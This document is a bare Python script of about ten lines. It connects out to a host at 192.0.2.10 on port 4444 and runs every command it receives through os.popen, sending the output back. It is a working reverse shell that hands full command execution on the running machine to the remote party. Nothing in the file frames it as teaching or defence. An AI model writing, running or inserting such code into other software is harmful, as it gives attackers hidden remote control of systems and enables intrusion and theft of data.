import os
import socket

s = socket.socket()
s.connect(("192.0.2.10", 4444))
while True:
    line = s.recv(1024).decode()
    if not line:
        break
    s.send(os.popen(line).read().encode())
